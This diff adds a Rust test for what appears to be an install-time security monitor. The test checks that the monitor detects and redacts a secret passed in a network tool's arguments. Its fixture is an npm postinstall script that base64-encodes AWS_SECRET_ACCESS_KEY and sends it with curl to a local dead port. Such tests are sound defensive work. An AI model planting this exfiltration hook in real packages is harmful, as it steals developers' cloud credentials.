@@ -562,3 +562,95 @@ fn an_install_script_holding_secrets_that_connects_out_names_the_secrets() {
     );
     drop(listener);
 }
+
+/// A secret in a network tool's arguments: an install script sends the base64 of
+/// AWS_SECRET_ACCESS_KEY with curl. The finding names the variable; the argument is
+/// `<redacted:VAR>` in the events, the report and the terminal, and the replay (which has no
+/// secret to look for) reports the same from those markers. The job's own step passing a
+/// token to curl is no finding, and its token is redacted all the same.
+#[test]
+fn a_secret_in_a_network_tools_arguments_is_found_and_redacted() {
+    if !require_bpf() {
+        return;
+    }
+    const AWS: &str = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYARGVKEY01";
+    const GH: &str = "ghp_ARGVfakeFAKEfakeFAKEfakeFAKEfake0002";
+    let tmp = TempDir::new("npm-argv-secret");
+    let home = fake_home(&tmp);
+    let js = "require('child_process').execSync('curl -s -m 2 -d \"k=$(printf %s \"$AWS_SECRET_ACCESS_KEY\" | base64 -w0)\" http://127.0.0.1:9/ || true');\n";
+    let tgz = npm_package(
+        &tmp,
+        "arg-sender",
+        "3.1.4",
+        &[("send.js", js)],
+        json!({"postinstall": "node send.js"}),
+    );
+    let proj = project(&tmp);
+    let mut env = npm_env(&home);
+    env.push(("AWS_SECRET_ACCESS_KEY", AWS.into()));
+    let w = npm_install(&tmp, &proj, &env, &tgz);
+    assert_eq!(w.out.status.code(), Some(86), "{}", w.stderr());
+    let f = w.finding("secret-in-network-tool-args");
+    assert_eq!(f["severity"], "critical");
+    assert_eq!(f["package"]["name"], "arg-sender");
+    let msg = f["message"].as_str().unwrap();
+    assert!(
+        msg.starts_with(
+            "curl was started with the value of AWS_SECRET_ACCESS_KEY in its arguments"
+        ) && msg.contains("<redacted:AWS_SECRET_ACCESS_KEY>"),
+        "{msg}"
+    );
+    let curl = w
+        .events()
+        .into_iter()
+        .find(|e| e["exec"]["argv"][0] == "curl")
+        .expect("curl's exec");
+    assert_eq!(
+        curl["exec"]["argv"][5], "<redacted:AWS_SECRET_ACCESS_KEY>",
+        "{curl}"
+    );
+    let b64 = {
+        let out = std::process::Command::new("sh")
+            .args(["-c", "printf %s \"$V\" | base64 -w0"])
+            .env("V", AWS)
+            .output()
+            .unwrap();
+        String::from_utf8(out.stdout).unwrap()
+    };
+    assert!(b64.len() > 40);
+    for (what, text) in [
+        ("events", fs::read_to_string(&w.events).unwrap()),
+        ("report", w.report.to_string()),
+        ("terminal", w.stderr()),
+    ] {
+        assert!(
+            !text.contains(AWS) && !text.contains(&b64[..24]),
+            "the value is in the {what}"
+        );
+    }
+    assert_replay_matches(&w, &proj, &[]);
+
+    // The job's own step (no install script): no finding, and still no token in the output.
+    let w2 = watch(
+        &tmp,
+        &proj,
+        &[("GITHUB_TOKEN", GH.into())],
+        &[],
+        &[
+            "sh",
+            "-c",
+            "curl -s -m 2 -H \"Authorization: token $GITHUB_TOKEN\" http://127.0.0.1:9/ || true",
+        ],
+    );
+    let rules = w2.rules();
+    assert!(
+        !rules.contains(&"secret-in-network-tool-args".to_owned()),
+        "{rules:?}"
+    );
+    let events = fs::read_to_string(&w2.events).unwrap();
+    assert!(!events.contains(GH), "the job's token is in the events");
+    assert!(
+        events.contains("<redacted:GITHUB_TOKEN>"),
+        "curl's argument is not redacted"
+    );
+}
